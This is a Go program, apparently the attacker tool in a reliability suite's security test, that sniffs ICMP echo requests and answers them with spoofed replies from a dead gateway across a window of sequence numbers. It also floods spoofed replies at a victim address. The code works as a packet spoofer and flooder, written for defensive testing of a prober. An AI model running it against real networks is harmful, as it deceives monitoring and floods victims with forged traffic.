// Command spoofer is the attacker of the reliability suite's security test.
// It runs in a lab namespace on the host's uplink segment and sends ICMP
// echo replies that claim to come from a dead gateway (or the target behind
// it): for every echo request it sees on -iface it answers with the
// request's identifier, every sequence number around the request's, and a
// payload of the same length but not the request's bytes — an attacker
// that can guess or observe identifiers and sequence numbers but not the
// prober's random token — and it floods unsolicited replies with random
// identifiers at -rate per second. Bounded by -duration and -max.
package main

import (
	"crypto/rand"
	"encoding/binary"
	"flag"
	"fmt"
	"net"
	"os"
	"time"

	"golang.org/x/net/icmp"
	"golang.org/x/net/ipv4"
	"golang.org/x/sys/unix"
)

func main() {
	iface := flag.String("iface", "eth0", "interface whose echo requests are answered")
	dst := flag.String("dst", "", "victim address for unsolicited replies")
	srcs := flag.String("src", "", "source address claimed by unsolicited replies")
	window := flag.Int("window", 8, "sequence numbers either side of a seen request")
	rate := flag.Int("rate", 2000, "unsolicited replies per second")
	duration := flag.Duration("duration", 10*time.Second, "stop after this")
	max := flag.Int("max", 500000, "stop after this many packets")
	flag.Parse()
	if err := run(*iface, *dst, *srcs, *window, *rate, *duration, *max); err != nil {
		fmt.Fprintln(os.Stderr, "spoofer:", err)
		os.Exit(1)
	}
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func run(ifname, dst, src string, window, rate int, duration time.Duration, max int) error {
	ifi, err := net.InterfaceByName(ifname)
	if err != nil {
		return err
	}
	// ETH_P_ALL: taps see frames before the netdev ingress hook, so
	// requests a black-holed gateway drops are still seen.
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return fmt.Errorf("opening packet socket: %w", err)
	}
	defer unix.Close(fd)
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ALL), Ifindex: ifi.Index}); err != nil {
		return fmt.Errorf("binding packet socket: %w", err)
	}
	tv := unix.NsecToTimeval(int64(5 * time.Millisecond))
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv); err != nil {
		return err
	}
	pc, err := net.ListenPacket("ip4:icmp", "0.0.0.0")
	if err != nil {
		return fmt.Errorf("opening raw socket: %w", err)
	}
	defer pc.Close()
	rc, err := ipv4.NewRawConn(pc)
	if err != nil {
		return err
	}
	send := func(from, to net.IP, id, seq int, size int) error {
		data := make([]byte, size)
		_, _ = rand.Read(data)
		body, err := (&icmp.Message{Type: ipv4.ICMPTypeEchoReply, Body: &icmp.Echo{ID: id, Seq: seq & 0xffff, Data: data}}).Marshal(nil)
		if err != nil {
			return err
		}
		h := &ipv4.Header{Version: 4, Len: 20, TotalLen: 20 + len(body), TTL: 64, Protocol: 1, Src: from, Dst: to}
		return rc.WriteTo(h, body, nil)
	}
	var victim, claimed net.IP
	if dst != "" && src != "" {
		victim, claimed = net.ParseIP(dst).To4(), net.ParseIP(src).To4()
	}
	end := time.Now().Add(duration)
	sent, seen := 0, 0
	buf := make([]byte, 65536)
	var floodDue time.Time
	floodEvery := time.Duration(0)
	if rate > 0 {
		floodEvery = time.Second / time.Duration(rate)
	}
	floodDue = time.Now()
	for time.Now().Before(end) && sent < max {
		n, from, err := unix.Recvfrom(fd, buf, 0)
		if err == nil {
			ll, _ := from.(*unix.SockaddrLinklayer)
			if ll != nil && ll.Protocol == htons(unix.ETH_P_IP) && ll.Pkttype != unix.PACKET_OUTGOING {
				if h, err := ipv4.ParseHeader(buf[:n]); err == nil && h.Protocol == 1 && n > h.Len {
					if m, err := icmp.ParseMessage(1, buf[h.Len:n]); err == nil && m.Type == ipv4.ICMPTypeEcho {
						if e, ok := m.Body.(*icmp.Echo); ok {
							seen++
							for s := e.Seq - window; s <= e.Seq+window && sent < max; s++ {
								if err := send(h.Dst, h.Src, e.ID, s, len(e.Data)); err != nil {
									return fmt.Errorf("sending: %w", err)
								}
								sent++
							}
						}
					}
				}
			}
		}
		if victim != nil && floodEvery > 0 {
			var idb [4]byte
			for now := time.Now(); !floodDue.After(now) && sent < max; floodDue = floodDue.Add(floodEvery) {
				_, _ = rand.Read(idb[:])
				if err := send(claimed, victim, int(binary.BigEndian.Uint16(idb[:2])), int(binary.BigEndian.Uint16(idb[2:])), 24); err != nil {
					return fmt.Errorf("flooding: %w", err)
				}
				sent++
			}
		}
	}
	fmt.Printf("spoofer: saw %d echo requests, sent %d spoofed replies\n", seen, sent)
	return nil
}
